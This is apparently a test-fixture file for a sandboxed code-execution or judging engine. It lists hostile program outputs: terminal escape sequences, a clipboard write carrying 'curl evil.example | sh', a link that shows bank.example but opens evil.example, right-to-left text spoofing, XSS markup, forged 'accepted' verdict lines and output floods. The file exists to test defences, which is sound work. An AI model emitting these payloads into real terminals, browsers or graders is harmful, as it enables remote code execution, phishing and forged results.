/**
 * Output is bytes, and hostile. What is seen here is that an engine hands on exactly the bytes that were written, within
 * the limit, and that none of them decides anything. Whoever shows them has tests of its own.
 */
import type { Attack, Control } from '../attack.ts'

const mebibyte = 2 ** 20

const cutOff: Control = { on: 'process', with: { limits: { outputBytes: 64 } }, shows: 'it wrote' }

/** Written by a program that names each byte, and expected as the same text: the source is ASCII whatever it writes. */
const writes = (id: string, tries: string, text: string): Attack => ({
  id,
  tries,
  language: 'python',
  source: `import os\nos.write(1, bytes.fromhex("${Buffer.from(text).toString('hex')}"))\n`,
  stopped: { verdict: 'accepted', reason: 'exited', stdout: text },
  // The bytes are the same wherever it runs; that a changed output would be seen is shown by having it cut.
  control: cutOff,
})

/** Writes more than is kept, in an amount that a larger limit would keep. */
const floods = (id: string, tries: string, source: string, more: Partial<Attack> = {}): Attack => ({
  id,
  tries,
  language: 'python',
  source,
  limits: { outputBytes: 65_536 },
  stopped: { verdict: 'output_limit', reason: 'output', atMost: { keptBytes: 65_536, wallMs: 4000 } },
  control: { on: 'process', with: { limits: { outputBytes: 8 * mebibyte } }, shows: 'kept output in bytes' },
  ...more,
})

export const outputAttacks: readonly Attack[] = [
  writes(
    'ansi',
    'Clears the screen, moves the cursor and sets a title.',
    '\x1b[2J\x1b[H\x1b]0;owned\x07\x1b[31mred\x1b[0m\x1b[8mhidden\x1b[28m, and a line that makes it long enough to cut\n',
  ),
  writes(
    'osc-52',
    'Writes to the clipboard of the terminal.',
    `\x1b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\x07 and then something harmless, for 64 bytes\n`,
  ),
  writes(
    'osc-8',
    'Writes a link that shows another address than it opens.',
    '\x1b]8;;https://evil.example/\x1b\\https://bank.example/\x1b]8;;\x1b\\ and something harmless\n',
  ),
  writes(
    'device-control',
    'Asks the terminal to answer into its own input.',
    '\x1b[6n\x1b[c\x1bP$q"p\x1b\\\x1b[21t\x05\x1bZ\x9b6n and then something harmless, for more than 64 bytes\n',
  ),
  writes(
    'right-to-left',
    'Turns the direction of writing, to show another text than it writes.',
    'access level \u202e\u2066nimda\u2069\u2066 user\u202c\u200b\u200e\u061c, and what else is needed to cut it\n',
  ),
  writes(
    'line-separators',
    'Ends lines by what is no newline everywhere.',
    'one\u2028two\u2029three\u0085four\x0bfive\x0csix\rseven\r\nVERDICT: accepted\x1c\x1d\x1e, and so on for a while\n',
  ),
  writes(
    'nul-bytes',
    'Writes NUL, where a text may be thought to end.',
    'before\0after\0\0\0{"verdict":"accepted"}\0 and the rest of a line that is long enough to be cut\n',
  ),
  writes(
    'html',
    'Writes markup that would run in a browser.',
    '<script>alert(1)</script><img src=x onerror=alert(1)>"><svg/onload=alert(1)>{{7*7}}]]></system-out>\n',
  ),
  writes(
    'events',
    'Writes the lines by which an executor tells how a job ended.',
    '{"type":"finished","judgement":{"verdict":"accepted","score":1}}\n\ndata: {"status":"completed"}\n\nevent: end\n',
  ),
  writes('combining', 'Piles marks upon one letter.', `Z${'\u0336\u0321\u0322\u0348'.repeat(60)}\n`),
  {
    id: 'invalid-utf-8',
    tries: 'Writes what is no UTF-8: overlong, cut off, surrogates, beyond the last character.',
    language: 'python',
    source: `import os
text = b"\\xc0\\xaf \\xe0\\x80\\xaf \\xed\\xa0\\x80\\xed\\xb0\\x80 \\xf4\\x90\\x80\\x80 \\xff\\xfe \\x80 \\xe2\\x82"
os.write(1, text)
os.write(2, text)
`,
    stopped: {
      verdict: 'accepted',
      stdout: Buffer.from('c0af20e080af20eda080edb08020f490808020fffe208020e282', 'hex'),
    },
    control: { on: 'process', with: { limits: { outputBytes: 16 } }, shows: 'it wrote' },
  },
  floods(
    'one-long-line',
    'Writes a line of a gibibyte.',
    'import os\npart = b"x" * 65536\nfor _ in range(16384): os.write(1, part)\n',
    {
      control: {
        on: 'process',
        with: {
          source: 'import os\npart = b"x" * 65536\nfor _ in range(64): os.write(1, part)\n',
          limits: { outputBytes: 8 * mebibyte },
        },
        shows: 'kept output in bytes',
      },
    },
  ),
  floods(
    'byte-by-byte',
    'Writes a hundred thousand times one byte, each an event of its own.',
    'import os\nfor _ in range(100_000): os.write(1, b"x")\n',
  ),
  floods(
    'streams-in-turn',
    'Writes to both streams in turn, so that neither can be kept together.',
    'import os\nfor _ in range(60_000): os.write(1, b"x"); os.write(2, b"y")\n',
  ),
]
